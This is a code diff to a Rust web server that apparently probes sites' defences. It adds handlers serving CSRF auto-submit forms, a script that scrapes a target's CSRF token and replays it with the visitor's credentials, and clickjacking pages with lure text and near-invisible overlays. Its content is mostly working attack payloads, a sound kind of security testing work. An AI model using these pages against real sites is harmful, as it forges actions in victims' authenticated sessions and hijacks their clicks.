@@ -8,18 +8,45 @@ use serde_json::json;
 type Fields = Query<Vec<(String, String)>>;
 
 pub(super) async fn form(Query(fields): Fields) -> Html<String> {
-    let (target, fields) = aim(&fields);
+    submitting(&fields, "")
+}
+
+pub(super) async fn form_without_origin(Query(fields): Fields) -> Html<String> {
+    submitting(&fields, r#"<meta name="referrer" content="no-referrer">"#)
+}
+
+fn submitting(fields: &[(String, String)], head: &str) -> Html<String> {
+    let (target, fields) = aim(fields);
     let inputs = fields.iter().fold(String::new(), |form, (name, value)| {
         let (name, value) = (escape(name), escape(value));
         form + &format!(r#"<input type="hidden" name="{name}" value="{value}">"#)
     });
     page(
         &format!(
-            r#"<form method="post" action="{}">{inputs}</form>"#,
+            r#"{head}<form method="post" action="{}">{inputs}</form>"#,
             escape(target)
         ),
         "document.forms[0].submit()",
     )
+}
+
+pub(super) async fn fetch_with_stolen_token(Query(fields): Fields) -> Html<String> {
+    let (target, fields) = aim(&fields);
+    let script = format!(
+        "const post = page => {{
+            const token = /name=.csrfmiddlewaretoken. value=.([^'\"]+)/.exec(page)?.[1] ?? '';
+            const body = new URLSearchParams([...{fields}, ['csrfmiddlewaretoken', token]]);
+            return fetch({target}, {{ method: 'POST', credentials: 'include', mode: 'no-cors', body }});
+        }};
+        // Where the page cannot be read, it is posted without.
+        fetch({target}, {{ credentials: 'include' }})
+            .then(answer => answer.text()).catch(() => '')
+            .then(post)
+            .then(() => report('sent'), error => report('refused ' + error))",
+        target = literal(target),
+        fields = literal(fields),
+    );
+    page("", &script)
 }
 
 pub(super) async fn fetch(Query(fields): Fields) -> Html<String> {
@@ -54,15 +81,53 @@ pub(super) async fn steal(Query(fields): Fields) -> Html<String> {
 }
 
 pub(super) async fn frame(Query(fields): Fields) -> Html<String> {
-    let (target, _) = aim(&fields);
+    framing(aim(&fields).0, "")
+}
+
+pub(super) async fn nest(Query(fields): Fields) -> Html<String> {
+    let inner = crate::visitor::form(&[("target", aim(&fields).0)]);
+    framing(&format!("/frame/?{inner}"), "")
+}
+
+pub(super) async fn sandbox(Query(fields): Fields) -> Html<String> {
+    framing(
+        aim(&fields).0,
+        r#" sandbox="allow-forms allow-scripts allow-same-origin""#,
+    )
+}
+
+fn framing(target: &str, attributes: &str) -> Html<String> {
     page(
-        r#"<p>You have won. Press the button below.</p><iframe width="900" height="500"></iframe>"#,
+        &format!(
+            r#"<p>You have won. Press the button below.</p><iframe width="900" height="500"{attributes}></iframe>"#
+        ),
         // Browsers report a refused frame as loaded too; what is in it has to be looked at from inside.
         &format!(
             "const frame = document.querySelector('iframe');
             frame.onload = () => report('loaded');
             frame.src = {}",
             literal(target)
+        ),
+    )
+}
+
+pub(super) async fn cover(Query(fields): Fields) -> Html<String> {
+    let (target, fields) = aim(&fields);
+    let (element, address) = match fields.first().map(|(_, with)| with.as_str()) {
+        Some("object") => ("<object type=\"text/html\"></object>", "data"),
+        Some("embed") => ("<embed type=\"text/html\">", "src"),
+        _ => ("<iframe></iframe>", "src"),
+    };
+    let style = "<style>body { margin: 0 } iframe, object, embed { position: fixed; inset: 0; width: 100vw; height: 100vh;
+        border: 0; opacity: 0.001 }</style>";
+    page(
+        &format!("{style}<button>Press me, quickly</button>{element}"),
+        // A refusal is told as one or the other, as the element likes it.
+        &format!(
+            "const cover = document.querySelector('iframe, object, embed');
+            cover.onload = cover.onerror = () => report('covered');
+            cover.{address} = {target}",
+            target = literal(target)
         ),
     )
 }
